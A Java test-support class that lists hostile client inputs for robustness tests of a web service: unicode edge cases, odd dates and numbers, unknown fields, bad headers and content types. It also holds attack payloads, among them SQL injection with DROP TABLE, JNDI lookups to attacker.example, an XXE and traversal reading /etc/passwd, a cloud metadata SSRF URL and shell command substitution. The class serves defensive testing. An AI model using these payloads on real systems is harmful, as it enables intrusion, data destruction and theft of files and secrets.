package nl.samenspel.testsupport.hostile;

import java.util.List;

/**
 * The values a hostile or careless client sends: control and unicode edge characters, injection strings, far dates,
 * numbers no field can hold, and raw path segments that try to walk out of a route.
 */
final class HostileStrings {

    /** Control and unicode edge characters; lone surrogates are sent as JSON escapes or raw CESU bytes. */
    static final List<String> UNICODE = List.of(
            "nul\u0000byte",
            "\u0000",
            "bell\u0007escape\u001b[31mred",
            "line\r\nbreak",
            "tab\tand\u000bvtab\u000cform",
            "del\u007fete",
            "right\u202eto\u202dleft override",
            "zero\u200bwidth\u200c\u200djoin\ufeffbom",
            "lone high \ud800 surrogate",
            "lone low \udfff surrogate",
            "reversed \udc00\ud800 pair",
            "emoji \ud83d\ude00\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 family",
            "flags \ud83c\uddf3\ud83c\uddf1",
            "combining a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d",
            "z\u0351\u0352\u0357\u0358\u035b\u035c\u035d\u035e\u035f\u0360\u0361\u0362algo",
            "nonchar \ufffe\uffff end",
            "private \ue000\uf8ff use",
            "supplementary \udb40\udc01 tag",
            "fullwidth \uff1cscript\uff1e",
            "\u00a0\u2028\u2029 separators",
            "Ä\u0308 mixed \u0130stanbul \u0131",
            "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 rtl");

    /** Strings that would mean something to a database, a parser, a shell, a template engine or a log. */
    static final List<String> INJECTION = List.of(
            "' OR '1'='1",
            "'; DROP TABLE domainevententry; --",
            "1; SELECT pg_sleep(5)--",
            "\" OR \"\"=\"",
            "admin'--",
            "%' AND 1=0 UNION SELECT null,version()--",
            "{\"$gt\": \"\"}",
            "\"},\"roles\":[\"platform-operator\"],\"x\":{\"",
            "</script><script>alert(document.domain)</script>",
            "<img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "/etc/shadow\u0000.png",
            "file:///etc/passwd",
            "http://169.254.169.254/latest/meta-data/",
            "${jndi:ldap://attacker.example/a}",
            "${7*7}#{7*7}{{7*7}}<%= 7*7 %>",
            "{{constructor.constructor('return process')()}}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "$(id)`id`;id|id&&id",
            "header\r\nSet-Cookie: session=forged",
            "%0d%0aLocation:%20http://evil.example",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "__proto__",
            "%s%s%s%s%n%n%x",
            "\\u0000\\ud800\\\"",
            "=cmd|'/C calc'!A0",
            "*)(uid=*))(|(uid=*",
            "AAAA\u0000\u0000\u0000\u0000%00%00");

    /** Dates no domain needs, and texts that only look like dates. */
    static final List<String> FAR_DATES = List.of(
            "+9999999-01-01", "0000-00-00", "-10000-01-01", "9999-12-31", "0001-01-01", "1000-01-01",
            "-0001-12-31", "+10000-01-01", "2024-02-30", "2024-13-01", "2024-00-10", "2024-1-1", "20240101",
            "2024-01-01T00:00:00Z", "01-01-2024", "", " ", "now", "1e9", "2024-01-01\u0000", "２０２４-０１-０１");

    static final List<String> FAR_DATE_TIMES = List.of(
            "+9999999-01-01T00:00:00Z", "0000-00-00T00:00:00Z", "-10000-01-01T00:00:00Z", "9999-12-31T23:59:59Z",
            "0001-01-01T00:00:00Z", "+1000000000-12-31T23:59:59.999999999Z", "2024-01-01T25:61:61Z",
            "2024-01-01T00:00:00+99:00", "2024-01-01", "1700000000", "", "2024-01-01T00:00:00Z\u0000");

    /** Numbers outside every int and long, fractions where integers belong, and JSON's non-numbers. */
    static final List<String> BAD_NUMBERS = List.of(
            "2147483648", "-2147483649", "9223372036854775808", "-9223372036854775809", "1e400", "-1e400", "1.5",
            "0.0000001", "1E2", "-0", "99999999999999999999999999999999999999");

    /** Enum-like values the description never lists. */
    static final List<String> UNKNOWN_ENUM_VALUES = List.of(
            "ADMIN", "PLATFORM_OPERATOR", "UNKNOWN", "", " ", "null", "0", "__proto__", "DROP TABLE",
            "ACUTE' OR '1'='1", "VALUE\u0000", "\u202eNIMDA");

    /** Field names no request schema has: authority claims, prototype pollution, query operators. */
    static final List<String> UNKNOWN_FIELDS = List.of(
            "isAdmin", "roles", "organisation", "actor", "__proto__", "constructor", "$where", "createdBy",
            "approved", "deleted", "aggregateIdentifier", "sequenceNumber", "personId_");

    /** Raw, already-encoded path segments that try to leave the route or confuse the decoder. */
    static final List<String> RAW_SEGMENTS = List.of(
            "%2e%2e", "..", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%2f..%2f", "%252e%252e", "a%00b", "%00",
            "%c0%ae%c0%ae", "%ed%a0%80", "%ff%fe", "%5c..%5c", ";jsessionid=1", "a;b=c", "%0d%0aX-Injected:%201",
            "%20", "%09", "~", "*", "%3Cscript%3E", "%7B%7B7*7%7D%7D", "a%2Fb", "%25", "%u0000");

    /** Values for headers the services read or may log; HTTP clients refuse CR and LF in header values. */
    static final List<String[]> HEADERS = List.of(
            new String[] {"traceparent", "00-zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz-zzzzzzzzzzzzzzzz-01"},
            new String[] {"traceparent", "ff-00000000000000000000000000000000-0000000000000000-ff"},
            new String[] {"traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-' OR '1'='1"},
            new String[] {"tracestate", "a=" + "b".repeat(600)},
            new String[] {"X-Forwarded-For", "127.0.0.1, ' OR '1'='1"},
            new String[] {"X-Forwarded-Host", "evil.example"},
            new String[] {"X-Forwarded-Proto", "gopher"},
            new String[] {"X-HTTP-Method-Override", "DELETE"},
            new String[] {"Accept-Language", "xx-\u00ff;q=2.5, *;q=-1"},
            new String[] {"Accept", "application/json;q=0, */*;q=0.1"},
            new String[] {"If-Match", "\"' OR 1=1\""},
            new String[] {"Origin", "null"},
            new String[] {"Cookie", "JSESSIONID=../../etc/passwd"},
            new String[] {"Samenspel-Retrieval-Token", "${jndi:ldap://attacker.example/a}"});

    /** Content types the JSON endpoints do not accept, or accept only in a broken form. */
    static final List<String> WRONG_CONTENT_TYPES = List.of(
            "text/plain", "application/xml", "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=xyz", "application/json; charset=utf-16", "application/json; charset=bogus",
            "application/*", "*/*; q=", "application/json\u00ff", "application/x-java-serialized-object",
            "application/yaml", "");

    private HostileStrings() {
    }
}
